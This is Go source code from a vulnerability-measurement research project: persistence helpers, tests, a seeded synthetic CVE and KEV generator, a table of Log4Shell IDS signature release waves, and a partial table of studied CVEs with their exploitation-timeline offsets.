		MatchedEvents:  b.matched,
		DistinctCVEs:   len(b.cves),
		DistinctSrcIPs: len(b.srcs),
	}
}

// setMatchStats fills the match-derived fields of stats (leaving the
// capture-derived Packets and DecodeErrors untouched). stats may be nil.
func setMatchStats(stats *ScanStats, sessions int, events []Event) {
	if stats == nil {
		return
	}
	b := NewStatsBuilder()
	b.AddSessions(sessions)
	b.AddEvents(events)
	agg := b.Stats()
	stats.Sessions = agg.Sessions
	stats.MatchedEvents = agg.MatchedEvents
	stats.DistinctCVEs = agg.DistinctCVEs
	stats.DistinctSrcIPs = agg.DistinctSrcIPs
}
