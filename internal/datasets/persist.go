package datasets

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
)

// WriteJSON writes v as indented JSON to path, creating or truncating it.
func WriteJSON(path string, v any) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("datasets: creating %s: %w", path, err)
	}
	defer f.Close()
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(v); err != nil {
		return fmt.Errorf("datasets: encoding %s: %w", path, err)
	}
	return f.Close()
}

// ReadJSON decodes JSON from path into v.
func ReadJSON(path string, v any) error {
	f, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("datasets: opening %s: %w", path, err)
	}
	defer f.Close()
	return DecodeJSON(f, v)
}

// DecodeJSON decodes one JSON document from r into v, rejecting trailing
// garbage.
func DecodeJSON(r io.Reader, v any) error {
	dec := json.NewDecoder(r)
	if err := dec.Decode(v); err != nil {
		return fmt.Errorf("datasets: decoding JSON: %w", err)
	}
	if dec.More() {
		return fmt.Errorf("datasets: trailing data after JSON document")
	}
	return nil
}
