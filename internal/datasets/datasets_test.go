package datasets

import (
	"bytes"
	"math"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestParsePaperDuration(t *testing.T) {
	cases := []struct {
		in    string
		known bool
		want  time.Duration
	}{
		{"1d 0h", true, 24 * time.Hour},
		{"0d 19h", true, 19 * time.Hour},
		{"-121d 10h", true, -(121*24 + 10) * time.Hour},
		{"-0d 7h", true, -7 * time.Hour},
		{"105d5h", true, (105*24 + 5) * time.Hour},
		{"-", false, 0},
		{"", false, 0},
		{"313d 0h", true, 313 * 24 * time.Hour},
	}
	for _, c := range cases {
		got, err := ParsePaperDuration(c.in)
		if err != nil {
			t.Errorf("ParsePaperDuration(%q): %v", c.in, err)
			continue
		}
		if got.Known != c.known || got.D != c.want {
			t.Errorf("ParsePaperDuration(%q) = %v/%v, want %v/%v", c.in, got.Known, got.D, c.known, c.want)
		}
	}
}

func TestParsePaperDurationErrors(t *testing.T) {
	for _, s := range []string{"12h", "xd 1h", "1d xh", "1d 2h3m"} {
		if _, err := ParsePaperDuration(s); err == nil {
			t.Errorf("ParsePaperDuration accepted %q", s)
		}
	}
}

func TestFormatPaperDurationRoundTrip(t *testing.T) {
	for _, s := range []string{"1d 0h", "-121d 10h", "0d 19h", "-0d 7h", "-"} {
		d := MustPaperDuration(s)
		if got := FormatPaperDuration(d); got != s {
			t.Errorf("round trip %q -> %q", s, got)
		}
	}
}

func TestStudyCVEsCount(t *testing.T) {
	cves := StudyCVEs()
	if len(cves) != 63 {
		t.Fatalf("StudyCVEs = %d, want 63 (paper Section 4)", len(cves))
	}
}

func TestStudyCVEsUnique(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range StudyCVEs() {
		if seen[c.ID] {
			t.Errorf("duplicate CVE %s", c.ID)
		}
		seen[c.ID] = true
	}
}

func TestStudyCVEsInWindow(t *testing.T) {
	for _, c := range StudyCVEs() {
		if c.Published.Before(StudyWindow.Start) || c.Published.After(StudyWindow.End) {
			t.Errorf("%s published %s outside study window", c.ID, c.Published)
		}
	}
}

func TestStudyCVEsPaperAggregates(t *testing.T) {
	cves := StudyCVEs()

	// Finding 2: exactly 5 CVEs disclosed by the IDS vendor.
	talos := 0
	for _, c := range cves {
		if c.TalosDisclosed {
			talos++
		}
	}
	if talos != 5 {
		t.Errorf("Talos-disclosed = %d, want 5", talos)
	}

	// Finding 6: only 8 CVEs had fixes deployed before publication, and 5
	// of those were disclosed by an IDS-vendor affiliate.
	fBeforeP, fBeforePTalos := 0, 0
	for _, c := range cves {
		if c.DMinusP.Known && c.DMinusP.D < 0 {
			fBeforeP++
			if c.TalosDisclosed {
				fBeforePTalos++
			}
		}
	}
	if fBeforeP != 8 {
		t.Errorf("D<P count = %d, want 8", fBeforeP)
	}
	if fBeforePTalos != 5 {
		t.Errorf("D<P Talos count = %d, want 5", fBeforePTalos)
	}

	// Finding 1: studied CVEs skew high-impact; the median is 9.8.
	impacts := StudyImpactSamples()
	n := 0
	for _, v := range impacts {
		if v >= 9.8 {
			n++
		}
	}
	if n < len(impacts)/2 {
		t.Errorf("only %d/%d CVEs at 9.8+; median should be 9.8", n, len(impacts))
	}

	// Vendor and CWE diversity (Section 4 reports 40 vendors, 25 CWEs; the
	// reconstruction must preserve strong diversity).
	if v := len(StudyVendors()); v < 30 {
		t.Errorf("distinct vendors = %d, want >= 30", v)
	}
	if w := len(StudyCWEs()); w < 15 {
		t.Errorf("distinct CWEs = %d, want >= 15", w)
	}

	// Total events are in the paper's order of magnitude (146 k reported;
	// the printed appendix sums slightly lower).
	total := TotalStudyEvents()
	if total < 100000 || total > 160000 {
		t.Errorf("total events = %d, want ~10^5", total)
	}
}

func TestStudyCVEByID(t *testing.T) {
	c := StudyCVEByID("2021-44228")
	if c == nil {
		t.Fatal("Log4Shell missing from study data")
	}
	if c.Events != 6254 || c.Impact != 10.0 {
		t.Errorf("Log4Shell row = %+v", c)
	}
	if got := c.AMinusP.D; got != 13*time.Hour {
		t.Errorf("Log4Shell A-P = %v, want 13h", got)
	}
	if StudyCVEByID("1999-0001") != nil {
		t.Error("unknown CVE returned a record")
	}
}

func TestLog4ShellGroups(t *testing.T) {
	groups := Log4ShellGroups()
	if len(groups) != 5 {
		t.Fatalf("groups = %d, want 5 (A–E)", len(groups))
	}
	if Log4ShellSIDCount() != 15 {
		t.Errorf("SID count = %d, want 15", Log4ShellSIDCount())
	}
	// Groups must be in release order.
	for i := 1; i < len(groups); i++ {
		if groups[i-1].DMinusP.D >= groups[i].DMinusP.D {
			t.Errorf("group %s (D-P %v) not after group %s (D-P %v)",
				groups[i].Name, groups[i].DMinusP.D, groups[i-1].Name, groups[i-1].DMinusP.D)
		}
	}
	// Group A deployed 9 hours after publication.
	if got := groups[0].Deployed().Sub(Log4ShellPublished); got != 9*time.Hour {
		t.Errorf("group A deployment offset = %v", got)
	}
}

func TestGeneratePopulationDeterministic(t *testing.T) {
	a := GeneratePopulation(PopulationConfig{Seed: 1, N: 500})
	b := GeneratePopulation(PopulationConfig{Seed: 1, N: 500})
	if len(a) != 500 || len(b) != 500 {
		t.Fatalf("lengths = %d, %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("record %d differs between same-seed runs", i)
		}
	}
	c := GeneratePopulation(PopulationConfig{Seed: 2, N: 500})
	same := true
	for i := range a {
		if a[i] != c[i] {
			same = false
			break
		}
	}
	if same {
		t.Error("different seeds produced identical populations")
	}
}

func TestGeneratePopulationShape(t *testing.T) {
	pop := GeneratePopulation(PopulationConfig{Seed: 7, N: 20000})
	var sum float64
	hi := 0
	for _, r := range pop {
		if r.CVSS < 0 || r.CVSS > 10 {
			t.Fatalf("CVSS out of range: %v", r.CVSS)
		}
		sum += r.CVSS
		if r.CVSS >= 9.0 {
			hi++
		}
		if r.Published.Before(StudyWindow.Start) || r.Published.After(StudyWindow.End) {
			t.Fatalf("publication %v outside window", r.Published)
		}
	}
	mean := sum / float64(len(pop))
	if mean < 6.0 || mean > 8.0 {
		t.Errorf("population mean CVSS = %.2f, want NVD-like ~7", mean)
	}
	// The general population must NOT be critical-dominated (Figure 2:
	// studied CVEs skew far above the population).
	if frac := float64(hi) / float64(len(pop)); frac > 0.25 {
		t.Errorf("population critical fraction = %.2f, too high", frac)
	}
}

func TestGenerateKEVCalibration(t *testing.T) {
	cat := GenerateKEV(KEVConfig{Seed: 3})
	if len(cat.Entries) != 424 {
		t.Fatalf("entries = %d, want 424", len(cat.Entries))
	}
	if len(cat.Overlap) != 44 {
		t.Fatalf("overlap = %d, want 44", len(cat.Overlap))
	}
	// All additions happen after the KEV catalog existed.
	for _, e := range cat.Entries {
		if e.DateAdded.Before(KEVStart) {
			t.Fatalf("%s added %v before KEV start", e.ID, e.DateAdded)
		}
	}
	// Pre-publication exploitation rate ≈ 18% (Finding 16). The overlap
	// CVEs and KEV-start clamping shift it slightly; accept 10–26%.
	pre := 0
	for _, v := range cat.AMinusPSamples() {
		if v < 0 {
			pre++
		}
	}
	frac := float64(pre) / float64(len(cat.Entries))
	if frac < 0.10 || frac > 0.26 {
		t.Errorf("A<P fraction = %.3f, want ~0.18", frac)
	}
	// The high-volume case-study CVEs must be in the overlap.
	for _, id := range []string{"2021-44228", "2022-26134", "2021-36260"} {
		if _, ok := cat.Overlap[id]; !ok {
			t.Errorf("%s missing from KEV overlap", id)
		}
	}
}

func TestGenerateKEVDscopeFirstShare(t *testing.T) {
	cat := GenerateKEV(KEVConfig{Seed: 3})
	dscopeFirst, over30 := 0, 0
	n := 0
	for id, e := range cat.Overlap {
		c := StudyCVEByID(id)
		if c == nil || !c.AMinusP.Known {
			continue
		}
		n++
		firstAttack := c.Published.Add(c.AMinusP.D)
		delta := e.DateAdded.Sub(firstAttack)
		if delta > 0 {
			dscopeFirst++
			if delta > 30*24*time.Hour {
				over30++
			}
		}
	}
	if n == 0 {
		t.Fatal("no joinable overlap CVEs")
	}
	// Finding 17: 59% telescope-first; 50% of shared CVEs seen >30d early.
	fracFirst := float64(dscopeFirst) / float64(n)
	if math.Abs(fracFirst-0.59) > 0.12 {
		t.Errorf("telescope-first fraction = %.2f, want ~0.59", fracFirst)
	}
	frac30 := float64(over30) / float64(n)
	if frac30 < 0.30 || frac30 > 0.65 {
		t.Errorf(">30d-early fraction = %.2f, want ~0.50", frac30)
	}
}

func TestKEVImpactSkewBetweenPopulationAndStudy(t *testing.T) {
	// Figure 2 / Finding 15: KEV skews high, but less than studied CVEs.
	pop := GeneratePopulation(PopulationConfig{Seed: 5, N: 10000})
	kev := GenerateKEV(KEVConfig{Seed: 5})
	mean := func(xs []float64) float64 {
		var s float64
		for _, x := range xs {
			s += x
		}
		return s / float64(len(xs))
	}
	mPop := mean(ImpactSamples(pop))
	mKev := mean(kev.ImpactSamples())
	mStudy := mean(StudyImpactSamples())
	if !(mPop < mKev && mKev < mStudy) {
		t.Errorf("impact ordering violated: pop %.2f, kev %.2f, study %.2f", mPop, mKev, mStudy)
	}
}

func TestJSONPersistRoundTrip(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "kev.json")
	cat := GenerateKEV(KEVConfig{Seed: 9})
	if err := WriteJSON(path, cat.Entries); err != nil {
		t.Fatal(err)
	}
	var got []KEVEntry
	if err := ReadJSON(path, &got); err != nil {
		t.Fatal(err)
	}
	if len(got) != len(cat.Entries) {
		t.Fatalf("round trip length %d != %d", len(got), len(cat.Entries))
	}
	for i := range got {
		if !got[i].DateAdded.Equal(cat.Entries[i].DateAdded) || got[i].ID != cat.Entries[i].ID {
			t.Fatalf("record %d differs after round trip", i)
		}
	}
}

func TestReadJSONErrors(t *testing.T) {
	var v any
	if err := ReadJSON(filepath.Join(t.TempDir(), "missing.json"), &v); err == nil {
		t.Error("ReadJSON of missing file succeeded")
	}
}

func TestStudyCSVRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	orig := StudyCVEs()
	if err := WriteStudyCSV(&buf, orig); err != nil {
		t.Fatal(err)
	}
	got, err := ReadStudyCSV(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(orig) {
		t.Fatalf("round trip %d rows, want %d", len(got), len(orig))
	}
	for i := range orig {
		if got[i] != orig[i] {
			t.Fatalf("row %d differs:\n%+v\n%+v", i, got[i], orig[i])
		}
	}
}

func TestReadStudyCSVErrors(t *testing.T) {
	cases := map[string]string{
		"bad header": "a,b\n",
		"bad date": "cve,published,events,description,vendor,cwe,impact,d_minus_p,x_minus_p,a_minus_p,exploitability,talos_disclosed\n" +
			"2021-1,notadate,1,d,v,c,9.8,-,-,-,,false\n",
		"bad events": "cve,published,events,description,vendor,cwe,impact,d_minus_p,x_minus_p,a_minus_p,exploitability,talos_disclosed\n" +
			"2021-1,2021-05-01,x,d,v,c,9.8,-,-,-,,false\n",
		"bad duration": "cve,published,events,description,vendor,cwe,impact,d_minus_p,x_minus_p,a_minus_p,exploitability,talos_disclosed\n" +
			"2021-1,2021-05-01,1,d,v,c,9.8,12q,-,-,,false\n",
		"empty id": "cve,published,events,description,vendor,cwe,impact,d_minus_p,x_minus_p,a_minus_p,exploitability,talos_disclosed\n" +
			",2021-05-01,1,d,v,c,9.8,-,-,-,,false\n",
	}
	for name, input := range cases {
		if _, err := ReadStudyCSV(strings.NewReader(input)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}
