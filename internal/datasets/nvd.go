package datasets

import (
	"math/rand"
	"sort"
	"time"
)

// CVERecord is one entry of the NVD-style catalog: identifier, publication
// date, and CVSS base score. The study uses the full 2021–2023 population
// only for the Figure 2 impact-distribution comparison.
type CVERecord struct {
	ID        string    `json:"id"`
	Published time.Time `json:"published"`
	CVSS      float64   `json:"cvss"`
}

// PopulationConfig tunes the synthetic all-CVE population generator.
type PopulationConfig struct {
	// Seed drives the deterministic generator.
	Seed int64
	// N is the number of CVEs (NVD published roughly 25 k/year in the
	// study window; the default 50000 covers two years).
	N int
}

func (c PopulationConfig) withDefaults() PopulationConfig {
	if c.N == 0 {
		c.N = 50000
	}
	return c
}

// cvssBuckets approximates NVD's empirical CVSS v3 base-score distribution
// for 2021–2023: scores cluster at the rubric's characteristic values, with
// MEDIUM and HIGH dominating and a visible CRITICAL mode at 9.8.
var cvssBuckets = []struct {
	score  float64
	weight float64
}{
	{3.5, 0.02}, {4.3, 0.05}, {4.8, 0.04}, {5.3, 0.07}, {5.4, 0.08},
	{6.1, 0.10}, {6.5, 0.09}, {7.2, 0.06}, {7.5, 0.12}, {7.8, 0.11},
	{8.1, 0.05}, {8.8, 0.10}, {9.1, 0.03}, {9.6, 0.02}, {9.8, 0.05}, {10.0, 0.01},
}

// GeneratePopulation produces a deterministic synthetic all-CVE catalog over
// the study window. Scores are drawn from the bucket distribution with a
// small jitter so the CDF is smooth like NVD's.
func GeneratePopulation(cfg PopulationConfig) []CVERecord {
	cfg = cfg.withDefaults()
	rng := rand.New(rand.NewSource(cfg.Seed))
	var totalW float64
	for _, b := range cvssBuckets {
		totalW += b.weight
	}
	window := StudyWindow.End.Sub(StudyWindow.Start)
	out := make([]CVERecord, 0, cfg.N)
	for i := 0; i < cfg.N; i++ {
		r := rng.Float64() * totalW
		score := cvssBuckets[len(cvssBuckets)-1].score
		for _, b := range cvssBuckets {
			if r < b.weight {
				score = b.score
				break
			}
			r -= b.weight
		}
		score += (rng.Float64() - 0.5) * 0.2
		if score > 10 {
			score = 10
		}
		if score < 0 {
			score = 0
		}
		pub := StudyWindow.Start.Add(time.Duration(rng.Int63n(int64(window))))
		out = append(out, CVERecord{
			ID:        syntheticCVEID(pub, i),
			Published: pub,
			CVSS:      score,
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Published.Before(out[j].Published) })
	return out
}

// syntheticCVEID fabricates a plausible identifier in the synthetic number
// space (serials start at 90000 to avoid colliding with real CVE ids).
func syntheticCVEID(pub time.Time, serial int) string {
	return pub.Format("2006") + "-" + itoa5(90000+serial)
}

func itoa5(n int) string {
	digits := []byte{'0', '0', '0', '0', '0', '0'}
	i := len(digits)
	for n > 0 && i > 0 {
		i--
		digits[i] = byte('0' + n%10)
		n /= 10
	}
	return string(digits[i:])
}

// ImpactSamples extracts the CVSS scores of a catalog as a float slice for
// ECDF construction (Figure 2).
func ImpactSamples(recs []CVERecord) []float64 {
	out := make([]float64, len(recs))
	for i, r := range recs {
		out[i] = r.CVSS
	}
	return out
}

// StudyImpactSamples returns the CVSS scores of the 63 studied CVEs.
func StudyImpactSamples() []float64 {
	cves := StudyCVEs()
	out := make([]float64, len(cves))
	for i, c := range cves {
		out[i] = c.Impact
	}
	return out
}
