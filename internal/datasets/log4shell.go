package datasets

import "time"

// Log4ShellPublished is the public-awareness date of CVE-2021-44228.
var Log4ShellPublished = mustDate("2021-12-10")

// Log4ShellContext is where a Log4Shell variant's payload is injected.
type Log4ShellContext string

// Injection contexts from Table 6.
const (
	CtxHTTPURI    Log4ShellContext = "HTTP URI"
	CtxHTTPHeader Log4ShellContext = "HTTP Header"
	CtxHTTPBody   Log4ShellContext = "HTTP Body"
	CtxHTTPCookie Log4ShellContext = "HTTP Cookie"
	CtxHTTPMethod Log4ShellContext = "HTTP Request Method"
	CtxSMTP       Log4ShellContext = "SMTP"
)

// Log4ShellSID is one signature row of Table 6.
type Log4ShellSID struct {
	SID int
	// AMinusD is the first matching attack time minus the signature's
	// deployment time: negative means traffic predated the signature.
	AMinusD Duration
	// Context is where the payload appears.
	Context Log4ShellContext
	// Match is the JNDI lookup keyword the signature targets
	// (jndi, lower, upper — or a combination).
	Match string
	// Adaptation is the adversarial evasion the signature addresses.
	Adaptation string
}

// Log4ShellGroup is one signature release wave of Table 6.
type Log4ShellGroup struct {
	// Name is the group letter A–E.
	Name string
	// DMinusP is the group's release time relative to CVE publication.
	DMinusP Duration
	// SIDs are the signatures released together.
	SIDs []Log4ShellSID
}

// Deployed returns the group's absolute deployment time.
func (g Log4ShellGroup) Deployed() time.Time {
	return Log4ShellPublished.Add(g.DMinusP.D)
}

// Log4ShellGroups returns Table 6: the five Log4Shell signature waves,
// showing increasingly sophisticated evasion being addressed over time.
func Log4ShellGroups() []Log4ShellGroup {
	sid := func(n int, ad, ctx, match, adapt string) Log4ShellSID {
		return Log4ShellSID{
			SID:        n,
			AMinusD:    MustPaperDuration(ad),
			Context:    Log4ShellContext(ctx),
			Match:      match,
			Adaptation: adapt,
		}
	}
	return []Log4ShellGroup{
		{
			Name:    "A",
			DMinusP: MustPaperDuration("0d 9h"),
			SIDs: []Log4ShellSID{
				sid(58722, "0d 4h", "HTTP URI", "jndi", ""),
				sid(58723, "-0d 6h", "HTTP Header", "jndi", ""),
				sid(58724, "0d 22h", "HTTP Header", "lower", ""),
				sid(58725, "105d 5h", "HTTP URI", "lower", ""),
				sid(58727, "4d 14h", "HTTP Body", "jndi", ""),
				sid(58731, "8d 21h", "HTTP Header", "upper", ""),
			},
		},
		{
			Name:    "B",
			DMinusP: MustPaperDuration("0d 17h"),
			SIDs: []Log4ShellSID{
				sid(300057, "21d 10h", "HTTP Cookie", "jndi", ""),
				sid(58738, "11d 7h", "HTTP Header", "upper", "Escape sequence for $"),
			},
		},
		{
			Name:    "C",
			DMinusP: MustPaperDuration("1d 15h"),
			SIDs: []Log4ShellSID{
				sid(58739, "8d 12h", "HTTP Header", "lower", "Escape sequence for $"),
				sid(58741, "136d 16h", "HTTP Body", "jndi", "Escape sequence for jndi"),
				sid(58742, "5d 0h", "HTTP Header", "jndi", "Escape sequence for jndi"),
				sid(58744, "4d 19h", "HTTP URI", "jndi", "Escape sequence for jndi"),
			},
		},
		{
			Name:    "D",
			DMinusP: MustPaperDuration("3d 11h"),
			SIDs: []Log4ShellSID{
				sid(300058, "5d 0h", "HTTP Cookie", "jndi", "Escape sequence for jndi"),
				sid(58751, "-3d 8h", "SMTP", "jndi/lower/upper", "Extraneous ignored text before jndi"),
			},
		},
		{
			Name:    "E",
			DMinusP: MustPaperDuration("90d 3h"),
			SIDs: []Log4ShellSID{
				sid(59246, "-88d 22h", "HTTP Request Method", "jndi", ""),
			},
		},
	}
}

// Log4ShellSIDCount returns the total number of Table 6 signatures.
func Log4ShellSIDCount() int {
	n := 0
	for _, g := range Log4ShellGroups() {
		n += len(g.SIDs)
	}
	return n
}
