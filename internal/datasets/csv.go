package datasets

import (
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"time"
)

// Full-fidelity CSV interchange for the study table, so external tooling
// (and the mkdata command) can round-trip the embedded Appendix E without
// loss. Column order is stable and versioned by the header row.

var studyCSVHeader = []string{
	"cve", "published", "events", "description", "vendor", "cwe",
	"impact", "d_minus_p", "x_minus_p", "a_minus_p", "exploitability", "talos_disclosed",
}

// WriteStudyCSV writes records with every StudyCVE field.
func WriteStudyCSV(w io.Writer, cves []StudyCVE) error {
	cw := csv.NewWriter(w)
	if err := cw.Write(studyCSVHeader); err != nil {
		return err
	}
	for _, c := range cves {
		expl := ""
		if c.Exploitability >= 0 {
			expl = strconv.Itoa(c.Exploitability)
		}
		row := []string{
			c.ID,
			c.Published.Format("2006-01-02"),
			strconv.Itoa(c.Events),
			c.Description,
			c.Vendor,
			c.CWE,
			strconv.FormatFloat(c.Impact, 'f', 1, 64),
			FormatPaperDuration(c.DMinusP),
			FormatPaperDuration(c.XMinusP),
			FormatPaperDuration(c.AMinusP),
			expl,
			strconv.FormatBool(c.TalosDisclosed),
		}
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// ReadStudyCSV parses records written by WriteStudyCSV.
func ReadStudyCSV(r io.Reader) ([]StudyCVE, error) {
	cr := csv.NewReader(r)
	cr.FieldsPerRecord = len(studyCSVHeader)
	header, err := cr.Read()
	if err != nil {
		return nil, fmt.Errorf("datasets: reading study CSV header: %w", err)
	}
	for i, h := range studyCSVHeader {
		if header[i] != h {
			return nil, fmt.Errorf("datasets: study CSV column %d is %q, want %q", i, header[i], h)
		}
	}
	var out []StudyCVE
	line := 1
	for {
		row, err := cr.Read()
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return nil, fmt.Errorf("datasets: study CSV line %d: %w", line, err)
		}
		line++
		c, err := parseStudyRow(row)
		if err != nil {
			return nil, fmt.Errorf("datasets: study CSV line %d: %w", line, err)
		}
		out = append(out, c)
	}
}

func parseStudyRow(row []string) (StudyCVE, error) {
	var c StudyCVE
	var err error
	c.ID = row[0]
	if c.ID == "" {
		return c, fmt.Errorf("empty CVE id")
	}
	if c.Published, err = parseDate(row[1]); err != nil {
		return c, err
	}
	if c.Events, err = strconv.Atoi(row[2]); err != nil {
		return c, fmt.Errorf("events %q: %w", row[2], err)
	}
	c.Description = row[3]
	c.Vendor = row[4]
	c.CWE = row[5]
	if c.Impact, err = strconv.ParseFloat(row[6], 64); err != nil {
		return c, fmt.Errorf("impact %q: %w", row[6], err)
	}
	if c.DMinusP, err = ParsePaperDuration(row[7]); err != nil {
		return c, err
	}
	if c.XMinusP, err = ParsePaperDuration(row[8]); err != nil {
		return c, err
	}
	if c.AMinusP, err = ParsePaperDuration(row[9]); err != nil {
		return c, err
	}
	c.Exploitability = -1
	if row[10] != "" {
		if c.Exploitability, err = strconv.Atoi(row[10]); err != nil {
			return c, fmt.Errorf("exploitability %q: %w", row[10], err)
		}
	}
	if c.TalosDisclosed, err = strconv.ParseBool(row[11]); err != nil {
		return c, fmt.Errorf("talos_disclosed %q: %w", row[11], err)
	}
	return c, nil
}

func parseDate(s string) (time.Time, error) {
	t, err := time.Parse("2006-01-02", s)
	if err != nil {
		return time.Time{}, fmt.Errorf("date %q: %w", s, err)
	}
	return t, nil
}
