package datasets

import "time"

// StudyCVE is one row of the paper's Appendix E: a CVE observed being
// exploited by the telescope, with its publication-relative lifecycle
// offsets as measured by the paper.
type StudyCVE struct {
	// ID is the CVE identifier without the "CVE-" prefix.
	ID string
	// Published is the public-awareness date P (per Suciu et al. [44]).
	Published time.Time
	// Events is the number of exploit events attributed to the CVE.
	Events int
	// Description is the matching rule's message.
	Description string
	// Vendor is the affected software vendor (reconstructed from the
	// description; drives the vendor-diversity finding).
	Vendor string
	// CWE is the weakness category (reconstructed; drives CWE diversity).
	CWE string
	// Impact is the CVSS base score.
	Impact float64
	// DMinusP is fix deployment minus publication (D − P). The paper
	// equates D with F (IDS rule availability, installed immediately).
	DMinusP Duration
	// XMinusP is public exploit availability minus publication (X − P).
	XMinusP Duration
	// AMinusP is first telescope-observed attack minus publication (A − P).
	AMinusP Duration
	// Exploitability is the expected-exploitability percentile from Suciu
	// et al. [44]; -1 when unreported.
	Exploitability int
	// TalosDisclosed marks the CVEs originally disclosed by the IDS vendor
	// (the TRUFFLEHUNTER reports). Finding 2: 5 of 63.
	TalosDisclosed bool
}

// row builds a StudyCVE from the paper's table notation.
func row(id, pub string, events int, desc, vendor, cwe string, impact float64, dp, xp, ap string, expl int, talos bool) StudyCVE {
	return StudyCVE{
		ID:             id,
		Published:      mustDate(pub),
		Events:         events,
		Description:    desc,
		Vendor:         vendor,
		CWE:            cwe,
		Impact:         impact,
		DMinusP:        MustPaperDuration(dp),
		XMinusP:        MustPaperDuration(xp),
		AMinusP:        MustPaperDuration(ap),
		Exploitability: expl,
		TalosDisclosed: talos,
	}
}

// StudyCVEs returns the 63 CVEs of Appendix E in publication order. The
// slice is freshly allocated on each call; callers may mutate it.
func StudyCVEs() []StudyCVE {
	return []StudyCVE{
		row("2021-22893", "2021-04-21", 2, "Pulse Connect Secure vulnerable URI access attempt", "Ivanti/Pulse Secure", "CWE-287", 10.0, "1d 0h", "-", "47d 15h", 100, false),
		row("2021-22204", "2021-04-23", 16, "ExifTool DjVu metadata command injection attempt", "ExifTool", "CWE-78", 7.8, "90d 12h", "20d 0h", "280d 22h", 100, false),
		row("2021-29441", "2021-04-27", 411, "Alibaba Nacos potential authentication bypass attempt", "Alibaba", "CWE-287", 9.8, "168d 17h", "-", "263d 8h", 85, false),
		row("2021-20090", "2021-04-29", 956, "Arcadyan routers path traversal attempt", "Arcadyan", "CWE-22", 9.8, "194d 22h", "-", "96d 21h", 88, false),
		row("2021-20091", "2021-04-29", 19, "Buffalo WSR router configuration injection attempt", "Buffalo", "CWE-78", 8.8, "194d 7h", "-", "352d 10h", -1, false),
		row("2021-1497", "2021-05-06", 7, "Cisco HyperFlex HX Installer command injection attempt", "Cisco", "CWE-78", 9.8, "0d 13h", "-", "188d 5h", 92, false),
		row("2021-1498", "2021-05-06", 4, "Cisco HyperFlex HX Data Platform command injection attempt", "Cisco", "CWE-78", 9.8, "0d 13h", "-", "110d 3h", 95, false),
		row("2021-31755", "2021-05-07", 1, "Tenda Router AC11 stack buffer overflow attempt", "Tenda", "CWE-121", 9.8, "248d 21h", "-", "186d 6h", 92, false),
		row("2021-31166", "2021-05-10", 1, "Microsoft Windows HTTP protocol stack remote code execution attempt", "Microsoft", "CWE-416", 9.8, "-", "313d 0h", "152d 4h", 100, false),
		row("2021-31207", "2021-05-10", 15, "Microsoft Exchange autodiscover server side request forgery attempt", "Microsoft", "CWE-918", 7.2, "64d 17h", "-", "104d 5h", 91, false),
		row("2021-32305", "2021-05-18", 1, "WebSVN search command injection attempt", "WebSVN", "CWE-78", 9.8, "226d 15h", "-", "518d 12h", 93, false),
		row("2021-21985", "2021-05-26", 32, "VMWare vSphere Client remote code execution attempt", "VMware", "CWE-20", 9.8, "10d 3h", "50d 0h", "31d 4h", 99, false),
		row("2021-35464", "2021-07-01", 5, "ForgeRock Open Access Manager remote code execution attempt", "ForgeRock", "CWE-502", 9.8, "14d 12h", "11d 0h", "1d 21h", 100, false),
		row("2021-21799", "2021-07-16", 1, "TRUFFLEHUNTER TALOS-2021-1270 attack attempt", "Advantech", "CWE-79", 6.1, "-121d 10h", "1d 0h", "474d 4h", 99, true),
		row("2021-21801", "2021-07-16", 2, "TRUFFLEHUNTER TALOS-2021-1272 attack attempt", "Advantech", "CWE-79", 6.1, "-119d 11h", "1d 0h", "354d 18h", 91, true),
		row("2021-21816", "2021-07-16", 4, "TRUFFLEHUNTER TALOS-2021-1281 attack attempt", "D-Link", "CWE-200", 4.3, "-79d 11h", "-", "165d 21h", 68, true),
		row("2021-26085", "2021-07-30", 4, "Atlassian Confluence information disclosure attempt", "Atlassian", "CWE-22", 5.3, "410d 17h", "-", "68d 19h", 78, false),
		row("2021-35395", "2021-08-16", 66, "Realtek Jungle SDK command injection attempt", "Realtek", "CWE-787", 9.8, "10d 13h", "-", "462d 22h", 85, false),
		row("2021-26084", "2021-08-26", 3179, "Atlassian Confluence OGNL injection remote code execution attempt", "Atlassian", "CWE-917", 9.8, "7d 12h", "15d 0h", "6d 6h", 100, false),
		row("2021-40539", "2021-09-07", 6, "Zoho ManageEngine ADSelfService Plus RestAPI authentication bypass attempt", "Zoho", "CWE-287", 9.8, "21d 17h", "80d 0h", "113d 19h", 100, false),
		row("2021-33045", "2021-09-09", 29, "Dahua Console Loopback potential authentication bypass attempt", "Dahua", "CWE-287", 9.8, "70d 18h", "-", "523d 6h", 79, false),
		row("2021-33044", "2021-09-09", 34, "Dahua Console NetKeyboard potential authentication bypass attempt", "Dahua", "CWE-287", 9.8, "70d 18h", "-", "47d 4h", 78, false),
		row("2021-40870", "2021-09-13", 2, "Aviatrix Controller PHP file injection attempt", "Aviatrix", "CWE-434", 9.8, "141d 14h", "-", "265d 11h", 92, false),
		row("2021-38647", "2021-09-15", 28, "Microsoft Windows Open Management Infrastructure remote code execution attempt", "Microsoft", "CWE-287", 9.8, "6d 13h", "44d 0h", "4d 20h", 100, false),
		row("2021-40438", "2021-09-16", 5, "Apache HTTP server SSRF attempt", "Apache", "CWE-918", 9.0, "105d 15h", "125d 0h", "32d 20h", 91, false),
		row("2021-22005", "2021-09-22", 5, "VMware vCenter Server file upload attempt", "VMware", "CWE-434", 9.8, "6d 17h", "16d 0h", "19d 6h", 100, false),
		row("2021-36260", "2021-09-22", 31117, "Hikvision webLanguage command injection vulnerability", "Hikvision", "CWE-78", 9.8, "49d 21h", "158d 0h", "30d 4h", 100, false),
